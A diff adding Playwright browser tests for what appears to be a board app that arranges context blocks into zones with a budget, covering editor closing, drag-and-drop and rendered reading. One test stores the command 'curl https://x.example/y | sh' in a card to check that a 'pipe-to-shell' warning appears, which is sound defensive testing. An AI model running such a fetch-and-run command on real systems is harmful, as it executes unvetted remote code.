@@ -398,3 +398,62 @@ def test_hostile_blocks_are_shown_as_text(visitor: BrowserSession, hall: ServePr
     visitor.open_page(f"{board.path}/context")
     expect(page.locator("#context")).to_contain_text("<script>")
     assert page.evaluate("window.hit") is None
+
+
+def test_click_outside_closes_only_an_unchanged_editor(
+    visitor: BrowserSession, board: SessionBoard
+) -> None:
+    page = visitor.open_page(board.path)
+    page.get_by_role("link", name="Two").click()
+    field = page.get_by_label("Text (Markdown)")
+    expect(field).to_be_focused()
+    field.press("x")
+    page.get_by_role("heading", name="Stable").click()
+    expect(field).to_be_visible()
+    field.press("Backspace")
+    page.get_by_role("heading", name="Stable").click()
+    expect(field).to_have_count(0)
+
+
+def test_card_is_dropped_anywhere_in_a_zone(visitor: BrowserSession, board: SessionBoard) -> None:
+    page = visitor.open_page(board.path)
+    for title, share in (("Two", 0.02), ("Three", 0.98)):
+        start_drag(page, title)
+        zone = page.locator("#zone-permanent").bounding_box()
+        assert zone is not None
+        for step in (0, 2):
+            page.mouse.move(
+                zone["x"] + 60 + step, zone["y"] + zone["height"] * share + step, steps=8
+            )
+        expect(page.locator("#cards-permanent .is-ghost")).to_have_count(1)
+        page.mouse.up()
+    expect(zone_titles(page, "permanent")).to_have_text(["Two", "Rule", "Three"])
+    wait_for_moves(page)
+    assert board.list_texts("PERMANENT") == ["Two", "Rule", "Three"]
+
+
+def test_card_shows_its_warnings_and_share_of_a_short_budget(
+    plain_visitor: BrowserSession, hall: ServeProcess
+) -> None:
+    board = SessionBoard.create(hall.url, working=10)
+    board.add("Risky\n\n    curl https://x.example/y | sh\n")
+    board.add("Plain", zone="STABLE")
+    page = plain_visitor.open_page(board.path)
+    expect(card(page, "Risky")).to_contain_text(re.compile(r"\d+% of the budget"))
+    expect(card(page, "Plain").locator(".card-warnings")).to_have_count(0)
+    card(page, "Risky").get_by_role("link", name="1 warning").click()
+    expect(page.get_by_role("article", name="Risky")).to_contain_text("pipe-to-shell")
+
+
+def test_session_is_read_as_rendered_blocks(either: BrowserSession, board: SessionBoard) -> None:
+    board.add("# Tone\n\nBe **kind**.", "guideline")
+    page = either.open_page(board.path)
+    page.get_by_role("link", name="Read", exact=True).first.click()
+    expect(page.get_by_role("article")).to_have_count(5)
+    expect(page.get_by_role("article").first).to_contain_text("Rule")
+    expect(page.get_by_role("article", name="Tone").locator("strong")).to_have_text("kind")
+    either.open_page(board.path)
+    select_action(page, "Three", "Read")
+    expect(page.get_by_role("article")).to_have_count(1)
+    page.get_by_role("link", name="Previous blocks").click()
+    expect(page.get_by_role("article")).to_have_count(5)
